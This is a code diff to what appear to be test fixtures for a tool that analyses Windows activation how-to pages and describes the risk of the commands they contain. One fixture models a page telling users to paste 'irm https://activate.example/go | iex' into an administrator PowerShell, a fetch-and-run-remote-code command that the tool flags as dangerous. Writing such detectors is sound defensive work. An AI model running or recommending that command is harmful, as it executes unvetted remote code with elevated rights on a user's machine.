@@ -1,4 +1,5 @@
 import type { Command, PageAnalysis, Procedure, Step } from '../../../../lib/model/analysis.ts';
+import { describeCommand } from '../../../../lib/risks/commands.ts';
 
 let count = 0;
 
@@ -25,8 +26,10 @@ function procedure(heading: string, ...steps: Step[]): Procedure {
   return { id: `p${count++}`, heading, steps };
 }
 
-function command(text: string, effect: Command['effect'], note: string, elevated = false): Command {
-  return { text, effect, note, entry: '', elevated };
+function command(text: string): Command {
+  const described = describeCommand(text);
+  if (!described) throw new Error(`${text} is no command.`);
+  return described;
 }
 
 const picture = { url: 'https://pictures.example/steps/activation.png', alt: 'The Activation page' };
@@ -49,7 +52,7 @@ const check = procedure(
     page: ['Activation', 'ms-settings:activation'],
   }),
   step('Open a terminal and look at the expiry:', {
-    commands: [command('slmgr /xpr', 'reads', 'Shows until when Windows is activated.')],
+    commands: [command('slmgr /xpr')],
     substeps: [
       step('Press Win + R, type **cmd** and press **Enter**.'),
       step('Type the command and press **Enter**.', {
@@ -63,9 +66,7 @@ const check = procedure(
     ],
   }),
   step('If it says that the key is blocked, put in your own key.', {
-    commands: [
-      command('slmgr /ipk AAAAA-*****-*****-*****-*****', 'changes', 'Installs a product key.', true),
-    ],
+    commands: [command('slmgr /ipk AAAAA-*****-*****-*****-*****')],
   }),
 );
 
@@ -132,7 +133,7 @@ const methods: PageAnalysis = {
       'Method 3: Use a script in PowerShell',
       step('Press Win + X and choose **Terminal (Admin)**.'),
       step('Paste irm https://activate.example/go | iex and press **Enter**.', {
-        commands: [command(remote.text, 'dangerous', 'Downloads a script and runs it.', true)],
+        commands: [command(remote.text)],
         risks: ['r1'],
       }),
     ),
@@ -169,7 +170,7 @@ const arabic: PageAnalysis = {
       step('اضغط على Win + I لفتح تطبيق **الإعدادات**.'),
       step('افتح صفحة **التنشيط** في الإعدادات.', { page: ['التنشيط', 'ms-settings:activation'] }),
       step('شغّل الأمر التالي:', {
-        commands: [command('slmgr /xpr', 'reads', 'Shows until when Windows is activated.')],
+        commands: [command('slmgr /xpr')],
       }),
     ),
   ],
